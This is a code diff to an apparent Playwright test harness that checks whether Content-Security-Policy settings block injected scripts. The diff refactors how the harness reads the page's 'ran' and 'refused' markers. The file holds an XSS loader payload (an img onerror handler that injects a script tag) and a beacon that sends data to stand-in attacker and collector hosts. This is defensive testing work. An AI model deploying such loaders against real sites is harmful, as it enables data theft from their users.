@@ -13,7 +13,9 @@ if TYPE_CHECKING:
 ATTACKER, COLLECTOR = "evil.test", "collector.test"
 PATIENCE_MS, LOOK_EVERY_MS = 4000, 20
 BEACON = "(address) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'beacon' }).then(() => 0)"
-MARKED = "(name) => document.documentElement.dataset[name] ?? ''"
+RAN = "() => 'ran' in document.documentElement.dataset"
+# Both at once: the page may be on its way elsewhere between two questions.
+STOPPED = "() => { const { ran, refused } = document.documentElement.dataset; return !ran && !!refused; }"
 SHOW = "(id) => app.show(id).then(() => 0)"
 LOADER = (
     "<img src='data:,' onerror=\"const s = document.createElement('script'); s.src = '{script}'; "
@@ -63,16 +65,17 @@ def attack(scene: Scene, place: str, policy: Policy) -> Attack:
 def _attack(scene: Scene, place: str, policy: Policy, context: "BrowserContext") -> Attack:
     cell, collector, page = new_cell(), scene.outsider.origin(COLLECTOR), context.new_page()
     beacon = _beacon_arrives(scene, page)
-    scene.enter(page, place)
+    scene.enter(page, place, cell)
     accepted = scene.works(page, "control: the page's own request")
     attacker, query = scene.outsider.origin(ATTACKER), f"cell={cell}&to={collector}"
     text = policy.note(scene.origin, attacker, query.replace("&", "&amp;"))
     page.evaluate(SHOW, scene.store_note(text))
     route, loot = _loot(scene, page, cell)
     ridden = scene.has_note(f"ridden in {cell}")
-    ran = bool(loot or ridden or _mark(page, "ran"))
-    stopped = not ran and bool(_mark(page, "refused"))
-    stolen = scene.opens(loot.split(), f"CSP {policy}: what the collector received")
+    ran = bool(loot) or ridden or _says(page, RAN)
+    stopped = not ran and _says(page, STOPPED)
+    scene.seen(cell, "the page, and its form if the script used it")
+    stolen = scene.opens(loot.split(), "what the collector received")
     return Attack(str(policy), accepted, beacon, ran, stopped, route, stolen, ridden)
 
 
@@ -90,17 +93,17 @@ def _loot(scene: Scene, page: "Page", cell: str) -> tuple[str, str]:
         arrived = [one for one in scene.outsider.of_cell(cell) if one.path == COLLECT and one.said]
         if arrived:
             return ("fetch" if arrived[0].method == "POST" else "navigation"), arrived[0].said
-        if _mark(page, "refused") and not _mark(page, "ran"):
+        if _says(page, STOPPED):
             break
         page.wait_for_timeout(LOOK_EVERY_MS)
     return "", ""
 
 
-def _mark(page: "Page", name: str) -> str:
-    """What page or payload left in the document; a page that is on its way elsewhere has no marks."""
+def _says(page: "Page", question: str) -> bool:
+    """What page or payload left in the document; a page that is on its way elsewhere says nothing."""
     from playwright.sync_api import Error
 
     try:
-        return str(page.evaluate(MARKED, name))
+        return bool(page.evaluate(question))
     except Error:
-        return ""
+        return False
